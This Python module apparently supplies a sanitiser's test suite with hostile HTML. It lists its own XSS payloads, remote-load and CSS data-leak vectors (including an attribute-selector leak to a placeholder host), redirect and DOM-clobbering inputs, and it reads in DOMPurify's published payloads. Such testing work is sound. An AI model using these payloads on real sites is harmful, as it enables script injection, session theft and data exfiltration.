"""Hostile HTML for the sanitiser: DOMPurify's published payloads, and a list of our own."""

from __future__ import annotations

import re
from json import loads
from pathlib import Path

DOMPURIFY = Path(__file__).resolve().parents[2].parent / "shared" / "corpora" / "dompurify"

# {hit} stands for script that would give itself away, {remote} for a host that must not be asked.
SCRIPTS = [
    "<script>{hit}</script>",
    "<SCRIPT SRC={remote}/x.js></SCRIPT>",
    "<img src=x onerror={hit}>",
    "<img src=x onerror=&#x77;indow.hit=1>",
    "<img/src=x/onerror={hit}>",
    "<svg onload={hit}>",
    "<svg><script>{hit}</script></svg>",
    "<svg><a xlink:href='javascript:{hit}'><text y=20>x</text></a></svg>",
    "<svg><animate onbegin={hit} attributeName=x dur=1s>",
    "<svg><style><img src=x onerror={hit}></style></svg>",
    "<math><mtext><table><mglyph><style><!--</style>"
    "<img title='--&gt;&lt;img src=1 onerror={hit}&gt;'>",
    "<math><mtext><option><FAKEFAKE><option></option><mglyph><svg><mtext><style>"
    "<a title='</style><img src onerror={hit}>'>",
    "<form><math><mtext></form><form><mglyph><style></math><img src onerror={hit}>",
    "<noscript><p title='</noscript><img src=x onerror={hit}>'>",
    "<textarea><p title='</textarea><img src=x onerror={hit}>'></p></textarea>",
    "<title><p title='</title><img src=x onerror={hit}>'></title>",
    "<xmp><p title='</xmp><img src=x onerror={hit}>'></xmp>",
    "<style><p title='</style><img src=x onerror={hit}>'></style>",
    "<template><img src=x onerror={hit}></template>",
    "<!--><img src=x onerror={hit}>-->",
    "<!-- --!><img src=x onerror={hit}>",
    "<![CDATA[><img src=x onerror={hit}>]]>",
    "<?xml-stylesheet ?><img src=x onerror={hit}>",
    "<a href='https://example.org/' onmouseover={hit} onfocus={hit} autofocus>x</a>",
    "<a href='javascript:{hit}'>x</a>",
    "<a href=' java\tscript:{hit}'>x</a>",
    "<a href='java&#10;script:{hit}'>x</a>",
    "<a href='&#1;javascript:{hit}'>x</a>",
    "<a href='javascript&colon;{hit}'>x</a>",
    "<a href='JaVaScRiPt:{hit}'>x</a>",
    "<a href='vbscript:{hit}'>x</a>",
    "<a href='data:text/html,<script>{hit}</script>'>x</a>",
    "<a href='data:text/html;base64,PHNjcmlwdD4xPC9zY3JpcHQ+'>x</a>",
    "<a href='blob:https://example.org/1'>x</a>",
    "<a href='view-source:https://example.org'>x</a>",
    "<iframe srcdoc='<script>{hit}</script>'></iframe>",
    "<iframe src='javascript:{hit}'></iframe>",
    "<object data='data:text/html,<script>{hit}</script>'></object>",
    "<embed src='javascript:{hit}'>",
    "<body onload={hit} onpageshow={hit}>",
    "<details open ontoggle={hit}>x</details>",
    "<video><source onerror={hit}></video>",
    "<input autofocus onfocus={hit}>",
    "<marquee onstart={hit}>x</marquee>",
    "<div style='animation:x' onanimationstart={hit}>x</div>",
    "<p style='behavior:url(#x);-moz-binding:url(x);width:expression({hit})'>x</p>",
    "<b \x00onclick={hit}>x</b>",
    "<a\x0bhref='javascript:{hit}'>x</a>",
]

LOADS = [
    "<img src='{remote}/img.png'>",
    "<img src='//{host}/slashes.png'>",
    "<img src='\\\\{host}\\backslashes.png'>",
    "<img src=' ht\ntp://{host}/broken.png'>",
    "<img srcset='{remote}/srcset.png 1x'>",
    "<picture><source srcset='{remote}/source.png'><img alt=x></picture>",
    "<img lowsrc='{remote}/lowsrc.png' dynsrc='{remote}/dynsrc.png'>",
    "<input type=image src='{remote}/input.png'>",
    "<image src='{remote}/image.png'>",
    "<table background='{remote}/table.png'><tr><td background='{remote}/td.png'>x</td></table>",
    "<body background='{remote}/body.png'>",
    "<link rel=stylesheet href='{remote}/link.css'>",
    "<link rel=prefetch href='{remote}/prefetch'><link rel=dns-prefetch href='{remote}/'>",
    "<link rel=icon href='{remote}/icon.ico'>",
    "<style>@import url('{remote}/import.css'); body{{background:url({remote}/style.png)}}</style>",
    "<style>@font-face{{font-family:x;src:url({remote}/font)}}*{{font-family:x}}</style>",
    "<style>input[value^=a]{{background:url({remote}/leak-a)}}</style><input value=abc>",
    "<p style='background:url({remote}/css.png)'>x</p>",
    "<p style='background:u\\72l({remote}/escape.png)'>x</p>",
    "<p style='background:u\\000072 l({remote}/escape6.png)'>x</p>",
    "<p style='background:/**/url(/**/{remote}/comment.png)'>x</p>",
    "<p style='background:URL(\"{remote}/upper.png\")'>x</p>",
    "<p style='background-image:image-set(\"{remote}/set.png\" 1x)'>x</p>",
    "<p style='background-image:-webkit-image-set(url({remote}/wset.png) 1x)'>x</p>",
    "<p style='background-image:cross-fade(url({remote}/fade.png),red,50%)'>x</p>",
    "<p style='background-image:linear-gradient(red,blue),url({remote}/second.png)'>x</p>",
    "<p style='--x:url({remote}/var.png);background:var(--x)'>x</p>",
    "<p style='list-style-image:url({remote}/list.png);display:list-item'>x</p>",
    "<p style='content:url({remote}/content.png)'>x</p>",
    "<p style='cursor:url({remote}/cursor.png),auto'>x</p>",
    "<p style='border-image:url({remote}/border.png) 30'>x</p>",
    "<p style='mask-image:url({remote}/mask.svg#x)'>x</p>",
    "<p style='filter:url({remote}/filter.svg#x)'>x</p>",
    "<p style='shape-outside:url({remote}/shape.png)'>x</p>",
    "<p style='background:src(\"{remote}/src.png\")'>x</p>",
    "<p style='color:red;}} p {{background:url({remote}/brace.png)'>x</p>",
    "<p style='background:url(\"{remote}/unclosed.png'>x</p>",
    "<svg><image href='{remote}/svg.png' width=9 height=9></svg>",
    "<svg><use href='{remote}/use.svg#x'></svg>",
    "<svg><style>@import '{remote}/svg.css';</style></svg>",
    "<video src='{remote}/video' poster='{remote}/poster' autoplay></video>",
    "<audio src='{remote}/audio' autoplay></audio>",
    "<iframe src='{remote}/frame'></iframe>",
    "<object data='{remote}/object'></object><embed src='{remote}/embed'>",
    "<applet code=x archive='{remote}/applet'></applet>",
    "<math href='{remote}/math'><mi>x</mi></math>",
    "<track src='{remote}/track'><bgsound src='{remote}/bgsound'>",
]

LEAVES = [
    "<meta http-equiv=refresh content='0;url={remote}/refresh'>",
    "<base href='{remote}/' target=_top><a href='x'>x</a>",
    "<form action='{remote}/form'><input name=x><button>x</button></form>",
    "<button formaction='{remote}/button'>x</button>",
    "<a href='https://example.org/' ping='{remote}/ping' download attributionsrc>x</a>",
    "<a href='https://example.org/' target=_top>x</a>",
    "<p style='position:fixed;top:0;left:0;width:100%;height:100%;z-index:9'>x</p>",
    "<p style='p\\6fsition:absolute'>x</p>",
    "<p style='position:sticky;transform:scale(99)'>x</p>",
    "<img name=getElementById id=cookie><form id=body name=forms></form>",
    "<map name=m><area href='javascript:{hit}'></map><img usemap=#m>",
    "<frameset onload={hit}><frame src='{remote}/frameset'></frameset>",
]


def own(hit: str, remote: str) -> list[str]:
    """Return our payloads, running `hit` and asking `remote` (an origin) where they get through."""
    host = remote.partition("//")[2]
    return [
        payload.replace("{hit}", hit)
        .replace("{remote}", remote)
        .replace("{host}", host)
        .replace("{{", "{")
        .replace("}}", "}")
        for payload in SCRIPTS + LOADS + LEAVES
    ]


def dompurify() -> list[str]:
    """Return every payload of DOMPurify's test suite; each stands on a line of its own as JSON."""
    source = (DOMPURIFY / "expect.mjs").read_text(encoding="utf-8")
    found = re.findall(r'^\s*"payload"\s*:\s*("(?:[^"\\]|\\.)*")', source, re.MULTILINE)
    return [loads(_as_json(literal), strict=False) for literal in found]


def _as_json(literal: str) -> str:
    r"""Return a JavaScript string literal as JSON, which knows no \x, \' or \v."""

    def escape(match: re.Match[str]) -> str:
        if match[1].startswith("x"):
            return f"\\u00{match[1][1:]}"
        if match[1] == "v":
            return "\\u000b"
        return match[0] if match[1] in '"\\/bfnrtu' else match[1]

    return re.sub(r"\\(x[0-9a-fA-F]{2}|.)", escape, literal)
